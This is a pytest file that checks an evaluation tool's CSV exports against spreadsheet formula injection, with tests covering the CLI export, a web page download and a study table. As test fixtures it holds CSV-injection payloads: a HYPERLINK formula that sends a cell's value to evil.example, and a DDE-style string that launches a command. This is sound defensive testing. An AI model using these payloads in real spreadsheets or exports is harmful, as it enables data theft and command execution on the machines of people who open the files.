"""CSV exports escape spreadsheet formulas (OWASP CSV injection): a string cell that begins with
=, +, -, @, tab or carriage return gets a leading apostrophe; numbers, negative ones included,
stay numbers. Every CSV the project writes goes through one function: mer export --format csv
(and the MLflow artifacts), the study's paper table, the Run page's download and the
preprocessing report."""
from __future__ import annotations

import csv
import io

import pandas as pd
import pytest

from mer_core.evaluation.export import csv_cell, csv_safe, export_run
from mer_core.store.db import RunStore
from test_results_pages import store_fixture_run

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"open")'


@pytest.mark.parametrize("value, expected", [
    (EVIL, "'" + EVIL), ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("-inf", "'-inf"), ("+", "'+"),
    ("sub01/clip=1", "sub01/clip=1"), ("negative", "negative"), ("", ""), ("'=already", "'=already"),
    ("-0.050", "-0.050"), ("+0.125", "+0.125"), ("-1e-3", "-1e-3"),  # numbers written as text are numbers
    (-0.5, -0.5), (-3, -3), (float("-inf"), float("-inf")), (True, True), (None, None),
])
def test_csv_cell(value, expected):
    assert csv_cell(value) == expected


def test_csv_safe_escapes_string_cells_and_headers_only():
    df = pd.DataFrame({"clip": [EVIL, "ok"], "=col": ["a", "@b"], "delta": [-0.25, 0.5], "n": [-1, 2]})
    out = csv_safe(df)
    assert out["clip"].tolist() == ["'" + EVIL, "ok"] and out["'=col"].tolist() == ["a", "'@b"]
    assert out["delta"].tolist() == [-0.25, 0.5] and out["n"].tolist() == [-1, 2]
    assert df["clip"].iloc[0] == EVIL  # the caller's table is left alone
    back = pd.read_csv(io.StringIO(out.to_csv(index=False)))
    assert back["delta"].dtype.kind == "f" and back["n"].dtype.kind == "i"


def _evil_run() -> str:
    rid = store_fixture_run("evil-run", subjects=3, per_subject=2, accuracy=0.6)
    with RunStore() as store:
        store.conn.execute("UPDATE predictions SET clip = ?, sample_id = '-' || sample_id WHERE run_id = ?",
                           (EVIL, rid))
    return rid


def _cells(path) -> list[str]:
    with open(path, newline="", encoding="utf-8") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def test_mer_export_csv_escapes_formulas(tmp_path):
    rid = _evil_run()
    paths = export_run(rid, "csv", tmp_path)
    pred = next(p for p in paths if p.name.endswith("_predictions.csv"))
    cells = _cells(pred)
    assert "'" + EVIL in cells and EVIL not in cells
    assert not [c for c in cells if c.startswith("-") and not c.replace(".", "").lstrip("-").isdigit()]
    table = pd.read_csv(pred)
    assert table["sample_id"].str.startswith("'-").all()
    for path in paths:
        if path.suffix == ".csv":
            assert not [c for c in _cells(path) if c[:1] in ("=", "+", "@", "\t", "\r")], path.name


def test_the_run_page_download_escapes_formulas(monkeypatch):
    """The Run page's 'predictions (shown) as CSV' serves escaped text."""
    from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage

    from apptest_helpers import page_app

    served: dict[str, bytes] = {}
    original = MemoryMediaFileStorage.load_and_get_id

    def recording(self, path_or_data, mimetype, kind, filename=None):
        if filename:
            served[filename] = path_or_data if isinstance(path_or_data, bytes) else b""
        return original(self, path_or_data, mimetype, kind, filename)

    monkeypatch.setattr(MemoryMediaFileStorage, "load_and_get_id", recording)
    rid = _evil_run()
    at = page_app("run", run=rid)
    assert not at.exception
    assert [b for b in at.get("download_button") if "CSV" in b.label]
    text = served[f"{rid}_predictions.csv"].decode("utf-8")
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert len([c for c in cells if c.startswith("'-")]) == 6  # the six crafted sample ids


def test_the_study_paper_table_csv_escapes_arm_names():
    from mer_core.evaluation.study_table import paper_table
    from mer_core.jobs.study import study_report

    with RunStore() as store:
        store.create_study("evil", dataset="synthetic", protocol="loso",
                           definition={"arms": [{"name": EVIL}, {"name": "plain"}]})
        for arm, acc, base in ((EVIL, 0.9, 1), ("plain", 0.4, 50)):
            for seed in (0, 1):
                rid = store_fixture_run(f"s{base + seed}", subjects=4, per_subject=4, accuracy=acc, seed=base + seed,
                                        store=store)
                store.set_study_cell("evil", arm, seed, job_id="", run_id=rid)
        report = study_report(store, "evil", n_boot=50)
    text = paper_table(report, "csv")
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert "'" + EVIL in cells and EVIL not in cells
    gaps = pd.read_csv(io.StringIO(text))["oracle gap UF1 mean"]
    assert gaps.dtype.kind == "f"  # numbers stay numbers (the oracle gap is often negative)
